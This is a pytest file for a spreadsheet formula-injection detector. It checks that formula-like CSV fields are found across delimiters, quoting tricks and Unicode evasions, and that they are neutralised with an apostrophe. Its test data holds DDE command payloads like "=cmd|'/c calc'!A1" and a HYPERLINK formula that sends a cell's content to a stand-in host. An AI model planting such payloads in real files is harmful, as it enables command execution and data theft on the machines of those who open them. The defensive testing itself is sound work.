"""Formula-like text: what spreadsheet programs evaluate, and what is a number or words to them."""

from pathlib import Path

import pytest

from kbd.plaintext.formulas import calls_out, formula_fields, is_formula_like, neutral

FORMULAS = (
    "=1+1", "=A1", "@SUM(A1)", "+A1", "-A1", "-2+3", "=cmd|'/c calc'!A1", "-cmd|'/c calc'!A1",
    "+cmd|'/c calc'!A1", "@cmd|'/c calc'!A1", "- cmd|'/c calc'!A1", "\t=1", "\r=1", "\n=1",
    "\tword", "\rword", "\nword", "＝1+1", "＋A1", "－A1", "＠SUM(A1)", " =1", "\ufeff=1",
    '=HYPERLINK("http://e.example/?"&A1)', "-1+cmd|'/c calc'!A1", "- 1+f(x)",
    "\x00=1", "\x01=1", "\u200c=1", "\u2060=1", "\xad=1", "sep=;", "SEP=^",
)  # fmt: skip

NO_FORMULAS = (
    "", "x", "-", "--", "+", "=", "@", "===", "-5", "+5", "-.5", "-1,234.50", "-1.234,50", "-5%",
    "+1e5", "-1.5E-3", "-€5", "-$ 5.00", "-5 EUR", "-3 °C", "+49 170 1234567", "+49 (0)30 123",
    "- see page 3", "+ more", "(5)", "a=b", "a@b.example", "'=1+1", "1-2", "\u22125",
    "\x05-26", "sep=ab",
)  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_one_until_it_is_made_text(text: str) -> None:
    """With an apostrophe before it no program evaluates it."""
    assert is_formula_like(text)
    assert neutral(text) == f"'{text}"
    assert not is_formula_like(neutral(text))


@pytest.mark.parametrize("text", NO_FORMULAS)
def test_numbers_and_words_stay_as_they_are(text: str) -> None:
    """A sign, a currency or a unit makes no formula, nor does a list's dash."""
    assert not is_formula_like(text)
    assert neutral(text) is text


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("quote", ["", '"'])
def test_a_formula_is_found_by_any_delimiter(tmp_path: Path, delimiter: str, quote: str) -> None:
    """Whatever a program that opens the file splits by, the field is found with its line."""
    path = tmp_path / "t"
    path.write_text(f"a{delimiter}b\n-5{delimiter}{quote}=HYPERLINK(A1){quote}{delimiter}+3\n")
    assert [(each.line, each.text[:14]) for each in formula_fields(path)] == [(2, "=HYPERLINK(A1)")]


@pytest.mark.parametrize(
    ("text", "formula"),
    [
        ("sep=^\nx^=f(A1)", "=f(A1)"),
        ("SEP=x\r\nax=f(A1)", "=f(A1)"),
        ('x,""=f(A1)', "=f(A1)"),
        ('x,"-1"+f(A1)', "-1+f(A1)"),
        ('x,"\ufeff=f(A1)"', "\ufeff=f(A1)"),
    ],
)
def test_no_spelling_of_a_field_hides_a_formula(tmp_path: Path, text: str, formula: str) -> None:
    """The file may name a delimiter of its own, and quotes may end before the field does."""
    path = tmp_path / "t"
    path.write_text(text, newline="")
    assert [each.text for each in formula_fields(path)] == [formula]


def test_a_delimiter_that_is_named_is_no_formula(tmp_path: Path) -> None:
    """Tables for Excel begin with it; nothing else in them is told, numbers with a sign neither."""
    path = tmp_path / "t"
    path.write_text("sep=;\na;b\n-1;+2\n")
    assert list(formula_fields(path)) == []


def test_long_lines_cost_no_more_than_their_length(tmp_path: Path) -> None:
    """Blanks and fields without an end are read once: the test ends."""
    path = tmp_path / "t"
    for text in ("," + " " * 400_000, "-1" + " " * 400_000 + "x", '="' * 200_000, "- a|" * 20_000):
        path.write_text(text)
        assert sum(1 for _ in formula_fields(path)) <= 1


def test_only_what_calls_counts_in_prose() -> None:
    """In a text that is no table a heading or a list is none, a call is."""
    assert not any(map(calls_out, ("== Part (one) ==", "- see (x)", "=1+1", "@me")))
    assert all(map(calls_out, ("=SUM(A1)", "=cmd|'/c calc'!A1", "='\\\\h\\s\\[a]S'!A1", "-f(x)")))
